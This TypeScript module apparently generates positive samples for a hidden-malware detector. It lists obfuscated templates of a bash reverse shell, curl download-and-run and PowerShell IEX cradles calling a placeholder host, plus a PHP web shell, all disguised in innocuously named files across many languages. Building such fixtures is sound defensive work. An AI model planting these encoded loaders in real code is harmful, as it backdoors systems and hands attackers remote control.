// What code does is hidden in encoded literals: shells, web scripts and compiled languages.
import type { Family } from './family.ts'

const shellLine = 'bash -i >& /dev/tcp/⟦ip⟧/⟦port⟧ 0>&1'
const fetchLine =
  'curl -fsSL http://⟦ip⟧/⟦lower:5⟧ -o /tmp/.⟦lower#2:6⟧ && chmod +x /tmp/.⟦lower#2:6⟧ && /tmp/.⟦lower#2:6⟧'
const cradle = "IEX (New-Object Net.WebClient).DownloadString('http://⟦ip⟧/⟦lower:4⟧.ps1')"

export const decodedTextsOthers: readonly Family[] = [
  {
    family: 'hidden-encoded-command',
    positive: true,
    classes: ['windows', 'download-run'],
    variants: [
      {
        paths: ['scripts/setup.bat', 'tools/build.cmd'],
        body: `powershell.exe -EncodedCommand ⟦utf16:${cradle}⟧`,
      },
      {
        paths: ['src/Updater.cs'],
        body: `public static void Refresh()
{
    var info = new System.Diagnostics.ProcessStartInfo("powershell", "-e ⟦utf16:${cradle}⟧");
    System.Diagnostics.Process.Start(info);
}`,
      },
      {
        paths: ['tools/helper.py'],
        imports: 'import subprocess',
        body: `ARGUMENT = "⟦utf16:${cradle}⟧"


def refresh():
    return subprocess.run(["powershell", "-ec", ARGUMENT])`,
      },
    ],
  },
  {
    family: 'hidden-numbers-powershell',
    positive: true,
    classes: ['windows', 'download-run', 'obfuscation'],
    variants: [
      {
        paths: ['scripts/warm.ps1', 'build/tidy.ps1'],
        body: `$codes = ⟦codes:${cradle}⟧
$text = -join ($codes | ForEach-Object { [char]$_ })
& (Get-Command "i*x" -CommandType Alias) $text`,
      },
    ],
  },
  {
    family: 'hidden-script-shell',
    positive: true,
    classes: ['reverse-shell', 'decoded-exec'],
    variants: [
      {
        paths: ['scripts/prepare.sh', 'ci/cache.sh'],
        body: `TEMPLATE='⟦b64:${shellLine}⟧'
render() {
  printf '%s' "$TEMPLATE" | base64 -d > "$1"
}
render /tmp/.cache-⟦lower:4⟧
bash /tmp/.cache-⟦lower:4⟧ &`,
      },
      {
        paths: ['scripts/lint.sh'],
        body: `NOTE="⟦hexed:${shellLine}⟧"
echo "$NOTE" | xxd -r -p > /tmp/n
sh /tmp/n`,
      },
    ],
  },
  {
    family: 'hidden-layers-php',
    positive: true,
    classes: ['web-shell', 'decoded-exec'],
    variants: [
      {
        paths: ['wp-content/plugins/forms/cache.php', 'public/lang.php'],
        whole: `<?php
$open = 'base' . '64_de' . 'code';
$make = 'create' . '_func' . 'tion';
$data = '⟦b64:⟦b64:if (isset($_POST["⟦lower:3⟧"])) { system($_POST["⟦lower:3⟧"]); exit; }⟧⟧';

function lang($value)
{
    global $open;
    return $open($open($value));
}

$page = $make('', lang($data));
$page();
`,
      },
    ],
  },
  {
    family: 'hidden-hex-ruby',
    positive: true,
    classes: ['reverse-shell'],
    variants: [
      {
        paths: ['lib/tasks/cache.rb', 'lib/report.rb'],
        body: `NOTE = '⟦hexed:${shellLine}⟧'

def refresh
  text = [NOTE].pack('H*')
  IO.popen(['bash', '-c', text])
end`,
      },
    ],
  },
  {
    family: 'hidden-octal-perl',
    positive: true,
    classes: ['download-run'],
    variants: [
      {
        paths: ['lib/Tidy.pl', 'bin/report.pl'],
        body: `my $note = "⟦octal:${fetchLine}⟧";
sub tidy {
    my ($level) = @_;
    return system($note);
}
tidy(1);`,
      },
    ],
  },
  {
    family: 'hidden-command-go',
    positive: true,
    classes: ['download-run'],
    variants: [
      {
        paths: ['internal/cache/warm.go', 'cmd/tool/init.go'],
        imports: `"encoding/base64"
"os/exec"`,
        body: `const note = "⟦b64:${fetchLine}⟧"

func warm() error {
	text, err := base64.StdEncoding.DecodeString(note)
	if err != nil {
		return err
	}
	command := exec.Command("/bin/sh", "-c", string(text))
	return command.Start()
}`,
        call: 'warm()',
      },
    ],
  },
  {
    family: 'hidden-command-managed',
    positive: true,
    classes: ['reverse-shell', 'download-run'],
    variants: [
      {
        paths: ['src/main/java/org/example/text/Labels.java'],
        imports: 'import java.util.Base64;',
        body: `private static final String LABEL = "⟦b64:${shellLine}⟧";

static void warm() throws java.io.IOException {
    String text = new String(Base64.getDecoder().decode(LABEL));
    Runtime.getRuntime().exec(new String[] {"/bin/bash", "-c", text});
}`,
      },
      {
        paths: ['src/main/java/org/example/text/Titles.java'],
        body: `private static final String TITLE = "⟦unicode:${fetchLine}⟧";

static void warm() throws java.io.IOException {
    Runtime.getRuntime().exec(new String[] {"/bin/sh", "-c", TITLE});
}`,
      },
    ],
  },
  {
    family: 'hidden-command-native',
    positive: true,
    classes: ['reverse-shell', 'download-run'],
    variants: [
      {
        paths: ['src/tables.c', 'lib/locale.c'],
        imports: '#include <stdlib.h>',
        body: `static const char label[] = "⟦escaped:${fetchLine}⟧";

int warm_tables(void)
{
    return system(label);
}`,
        call: 'warm_tables();',
      },
      {
        paths: ['src/note.c'],
        imports: '#include <stdlib.h>',
        body: `static const unsigned char note[] = { ⟦codes:${shellLine}⟧, 0 };

int warm_note(void)
{
    return system((const char *)note);
}`,
        call: 'warm_note();',
      },
    ],
  },
  {
    family: 'hidden-chain-visual-basic',
    positive: true,
    classes: ['download-run', 'windows'],
    variants: [
      {
        paths: ['scripts/logon.vbs'],
        whole: `Set host = CreateObject("WScript.Shell")
note = "⟦reversed:powershell -w hidden -c iwr http://⟦ip⟧/a.exe -OutFile %TEMP%\\a.exe; start %TEMP%\\a.exe⟧"
host.Run StrReverse(note), 0, False`,
      },
    ],
  },
  {
    family: 'hidden-layers-lua',
    positive: true,
    classes: ['download-run'],
    variants: [
      {
        paths: ['lua/statusline.lua', 'scripts/icons.lua'],
        body: `local icon = "⟦b64:${fetchLine}⟧"

local function draw(text)
  return (vim and vim.base64 or require("base64")).decode(text)
end

local function paint()
  return os.execute(draw(icon))
end

paint()`,
      },
    ],
  },
]
